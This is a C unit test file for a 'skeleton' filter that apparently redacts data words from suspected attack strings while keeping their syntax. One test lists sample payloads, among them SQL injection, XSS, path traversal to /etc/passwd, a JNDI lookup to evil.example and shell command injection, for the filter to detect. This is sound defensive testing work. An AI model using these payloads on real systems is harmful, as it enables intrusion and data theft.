/*
 * test_skeleton — the shape of a text holds none of its words, wherever they stand and however they
 * are spelled.
 *
 * At stake: the shape is published where somebody refused that anything of them is. The texts are
 * those of the known answers, with a random word planted at every place of each.
 */
#include "filters/skeleton.h"
#include "support/filter_fixture.h"
#include "support/random.h"
#include "support/skeleton_oracle.h"
#include "support/vectors.h"

#include <check.h>
#include <stdio.h>

enum { TEXT_MAX = 4096, ROOM = 4 * TEXT_MAX, WORD_LEN = 9, SPELLED_MAX = 8 * WORD_LEN };

struct bench {
    struct fixture fixture;
    const struct wv_filter *filter;
    const void *settings;
    uint8_t shape[ROOM];
};

static struct bench *bench_new(void)
{
    struct bench *bench = calloc(1, sizeof *bench);
    ck_assert_ptr_nonnull(bench);
    fixture_init(&bench->fixture);
    bench->filter = wv_filter_find(WV_LIT("skeleton"));
    ck_assert_ptr_nonnull(bench->filter);
    bench->settings = fixture_settings(&bench->fixture, bench->filter, WV_LIT("{\"max\": 65536}"));
    ck_assert_ptr_nonnull(bench->settings);
    return bench;
}

static void bench_free(struct bench *bench)
{
    fixture_fini(&bench->fixture);
    free(bench);
}

static struct wv_slice shape_of(struct bench *bench, struct wv_slice text)
{
    const struct fixture_run run = fixture_apply(&bench->fixture, bench->filter, bench->settings,
                                                 text, bench->shape, sizeof bench->shape);
    ck_assert(run.verdict == WV_REPLACED && run.whole);
    return run.bytes;
}

/* ---- Planted words --------------------------------------------------------------------------- */

/* Each writes one letter of the word. */
static void spell_plain(struct wv_buf *buf, uint8_t letter)
{
    wv_buf_byte(buf, letter);
}

static void spell_format(struct wv_buf *buf, const char *format, uint8_t letter)
{
    char mem[64];
    const int len = snprintf(mem, sizeof mem, format, letter);
    wv_buf_put(buf, (struct wv_slice){(const uint8_t *)mem, (size_t)len});
}

static void spell_percent(struct wv_buf *buf, uint8_t letter)
{
    spell_format(buf, "%%%02x", letter);
}

static void spell_twice(struct wv_buf *buf, uint8_t letter)
{
    spell_format(buf, "%%25%02X", letter);
}

static void spell_deep(struct wv_buf *buf, uint8_t letter)
{
    spell_format(buf, "%%252525%02X", letter);
}

static void spell_escape(struct wv_buf *buf, uint8_t letter)
{
    spell_format(buf, "\\u%04x", letter);
}

static void spell_entity(struct wv_buf *buf, uint8_t letter)
{
    spell_format(buf, "&#%d;", letter);
}

static void spell_wide(struct wv_buf *buf, uint8_t letter)
{
    const unsigned character = 0xff01U + letter - '!';
    wv_buf_byte(buf, (uint8_t)(0xe0 | character >> 12));
    wv_buf_byte(buf, (uint8_t)(0x80 | (character >> 6 & 0x3f)));
    wv_buf_byte(buf, (uint8_t)(0x80 | (character & 0x3f)));
}

static void spell_half(struct wv_buf *buf, uint8_t letter)
{
    (letter % 2 == 0 ? spell_plain : spell_percent)(buf, letter);
}

static void (*const spellings[])(struct wv_buf *, uint8_t) = {
    spell_plain,  spell_percent, spell_twice, spell_deep,
    spell_escape, spell_entity,  spell_wide,  spell_half,
};

/* Letters and digits. Its first letter begins no keyword and is none that a shape is written with.
 */
static void make_word(uint64_t *state, uint8_t word[WORD_LEN])
{
    static const char letters[] = "bcdfghjklmnpqrstvwxyz0123456789";
    word[0] = 'q';
    for (size_t i = 1; i < WORD_LEN; i++) {
        word[i] = (uint8_t)letters[random_next(state) % (sizeof letters - 1)];
    }
}

static struct wv_slice plant(struct wv_slice text, size_t at, const uint8_t word[WORD_LEN],
                             void (*spell)(struct wv_buf *, uint8_t), uint8_t mem[TEXT_MAX])
{
    struct wv_buf buf = wv_buf_of(mem, TEXT_MAX);
    wv_buf_put(&buf, wv_slice_sub(text, 0, at));
    for (size_t i = 0; i < WORD_LEN; i++) {
        spell(&buf, word[i]);
    }
    wv_buf_put(&buf, wv_slice_sub(text, at, text.len));
    struct wv_slice planted;
    ck_assert(wv_buf_take(&buf, &planted));
    return planted;
}

/* No three letters of the word, in a row, may stand in the shape. Keywords have none of those. */
static bool holds_part(struct wv_slice shape, const uint8_t word[WORD_LEN])
{
    return memmem(shape.ptr, shape.len, word, 3) != NULL;
}

START_TEST(a_planted_word_never_comes_out)
{
    struct bench *bench = bench_new();
    struct vectors vectors = vectors_load(WV_TEST_VECTORS, "skeleton");
    const size_t column = vectors_column(&vectors, "input");
    uint64_t state = 5;
    static uint8_t mem[TEXT_MAX];
    size_t tried = 0;
    for (size_t i = 0; i < vectors.count; i++) {
        const struct wv_slice text = vectors.rows[i].fields[column];
        for (size_t at = 0; at <= text.len; at++) {
            uint8_t word[WORD_LEN];
            make_word(&state, word);
            const struct wv_slice planted =
                plant(text, at, word, spellings[tried++ % WV_COUNT(spellings)], mem);
            const struct wv_slice shape = shape_of(bench, planted);
            ck_assert_msg(
                !holds_part(shape, word) && shape_is_closed(shape, &bench->fixture.scratch),
                "%s:%zu: a word planted at %zu comes out", vectors.path, vectors.rows[i].line, at);
        }
    }
    ck_assert_uint_gt(tried, 1000);
    vectors_free(&vectors);
    bench_free(bench);
}
END_TEST

START_TEST(the_shape_of_a_shape_is_the_same)
{
    struct bench *bench = bench_new();
    struct vectors vectors = vectors_load(WV_TEST_VECTORS, "skeleton");
    const size_t column = vectors_column(&vectors, "expected");
    static uint8_t mem[ROOM];
    for (size_t i = 0; i < vectors.count; i++) {
        const struct wv_slice shape = vectors.rows[i].fields[column];
        if (shape.len == 0 || vectors.rows[i].raw[column].ptr[0] == '!') {
            continue;
        }
        memcpy(mem, shape.ptr, shape.len);
        const struct wv_slice known = {mem, shape.len};
        ck_assert_msg(shape_is_closed(known, &bench->fixture.scratch) &&
                          shape_is_same(known, shape_of(bench, known)),
                      "%s:%zu: no shape, or not of itself", vectors.path, vectors.rows[i].line);
    }
    vectors_free(&vectors);
    bench_free(bench);
}
END_TEST

/* The oracle must be able to say no. */
START_TEST(the_oracle_sees_data)
{
    struct bench *bench = bench_new();
    static const char *const no[] = {
        "judy",   "select judy", "1",       "N1", "%6audy",   "%256audy", "\xc3\xbc",
        "&#106;", "WW",          "selects", "x",  "\x01\x02", "\\u0041",  "a%a0\xa0",
    };
    for (size_t i = 0; i < WV_COUNT(no); i++) {
        ck_assert_msg(!shape_is_closed(wv_slice_of(no[i]), &bench->fixture.scratch), "%zu", i);
    }
    ck_assert(!shape_is_same(WV_LIT("W or"), WV_LIT("W W")));
    ck_assert(!shape_is_same(WV_LIT("W"), WV_LIT("W W")));
    bench_free(bench);
}
END_TEST

/* ---- Where it is written --------------------------------------------------------------------- */

START_TEST(a_piece_is_written_and_nothing_around_it)
{
    struct bench *bench = bench_new();
    const struct wv_slice text = WV_LIT("password='or 1=1--;sid=judy");
    uint8_t mem[64];
    struct wv_buf buf = wv_buf_of(mem, sizeof mem);
    struct wv_out out = wv_out_plain(&buf, text);
    ck_assert(wv_skeleton(9, 18, &bench->fixture.context, &out) == WV_REPLACED);
    ck_assert(wv_skeleton(3, 3, &bench->fixture.context, &out) == WV_HARMLESS);
    struct wv_slice shape;
    ck_assert(wv_buf_take(&buf, &shape));
    ck_assert(wv_slice_eq(shape, WV_LIT("'or N=N--")));
    ck_assert_uint_eq(bench->fixture.scratch.used, 0);
    bench_free(bench);
}
END_TEST

/* What stays has the spelling of the record, where that is known. */
START_TEST(the_spelling_of_the_record_stays)
{
    struct bench *bench = bench_new();
    const struct wv_slice raw = WV_LIT("\\u0027or\\tjudy");
    static const uint32_t map[] = {0, 6, 7, 8, 10, 11, 12, 13, 14};
    uint8_t mem[64];
    struct wv_buf buf = wv_buf_of(mem, sizeof mem);
    struct wv_out out = {.buf = &buf, .text = WV_LIT("'or\tjudy"), .raw = raw, .map = map};
    ck_assert(wv_skeleton(0, out.text.len, &bench->fixture.context, &out) == WV_REPLACED);
    struct wv_slice shape;
    ck_assert(wv_buf_take(&buf, &shape));
    ck_assert(wv_slice_eq(shape, WV_LIT("\\u0027or\\tW")));
    bench_free(bench);
}
END_TEST

START_TEST(without_scratch_it_fails)
{
    struct bench *bench = bench_new();
    uint8_t mem[64];
    struct wv_buf buf = wv_buf_of(mem, sizeof mem);
    struct wv_out out = wv_out_plain(&buf, WV_LIT("%27 or 1=1"));
    bench->fixture.scratch.cap = 0;
    ck_assert(wv_skeleton(0, out.text.len, &bench->fixture.context, &out) == WV_FAILED);
    ck_assert(!wv_skeleton_has_syntax(out.text, &bench->fixture.scratch));
    bench_free(bench);
}
END_TEST

/* ---- Syntax ---------------------------------------------------------------------------------- */

START_TEST(attacks_have_syntax)
{
    static const char *const attacks[] = {
        "' or 1=1--",
        "admin' or '1'='1",
        "x') union select null--",
        "1;drop table x",
        "%27%20or%201=1--",
        "%2527%2520or%25201=1",
        "<script>alert(1)</script>",
        "%3Cscript%3E",
        "&#60;script&#62;",
        "\"><img src=x onerror=alert(1)>",
        "../../etc/passwd",
        "..%2f..%2fx",
        "..\\x",
        "${jndi:ldap://evil.example/a}",
        "$%7bx}",
        "{{7*7}}",
        "; cat /etc/passwd",
        "`id`",
        "$(id)",
        "|whoami",
        "/**/union/**/select",
        "1or(sleep(5))",
        "\\u003csvg onload=x",
    };
    struct bench *bench = bench_new();
    for (size_t i = 0; i < WV_COUNT(attacks); i++) {
        ck_assert_msg(wv_skeleton_has_syntax(wv_slice_of(attacks[i]), &bench->fixture.scratch),
                      "%s", attacks[i]);
    }
    ck_assert_uint_eq(bench->fixture.scratch.used, 0);
    bench_free(bench);
}
END_TEST

START_TEST(ordinary_credentials_have_none)
{
    static const char *const ordinary[] = {
        "",
        "hunter2",
        "hunter2;",
        "P@ss'w0rd!",
        "a<b",
        "correct horse battery staple",
        "don't order and select",
        "O'Brien's select",
        "S3cret(!)",
        "x;y|z",
        "--secret--",
        "$ecret{9}",
        "100%!",
        "amVmZmVyc29uOmh1bnRlcjI=",
        "a/b+c/or/9==",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqdWR5In0.c2lnbmF0dXJl",
        "Bearer 9f86d081884c7d659a2feaa0c55ad015",
        "Basic anVkeTpodW50ZXIy",
        "550e8400-e29b-41d4-a716-446655440000",
        "judy%40example.org",
        "\xe5\xaf\x86\xe7\xa0\x81'",
    };
    struct bench *bench = bench_new();
    for (size_t i = 0; i < WV_COUNT(ordinary); i++) {
        ck_assert_msg(!wv_skeleton_has_syntax(wv_slice_of(ordinary[i]), &bench->fixture.scratch),
                      "%s", ordinary[i]);
    }
    bench_free(bench);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("skeleton");
    TCase *tests = tcase_create("all");
    tcase_add_test(tests, a_planted_word_never_comes_out);
    tcase_add_test(tests, the_shape_of_a_shape_is_the_same);
    tcase_add_test(tests, the_oracle_sees_data);
    tcase_add_test(tests, a_piece_is_written_and_nothing_around_it);
    tcase_add_test(tests, the_spelling_of_the_record_stays);
    tcase_add_test(tests, without_scratch_it_fails);
    tcase_add_test(tests, attacks_have_syntax);
    tcase_add_test(tests, ordinary_credentials_have_none);
    suite_add_tcase(suite, tests);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_ENV);
    const int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed == 0 ? 0 : 1;
}
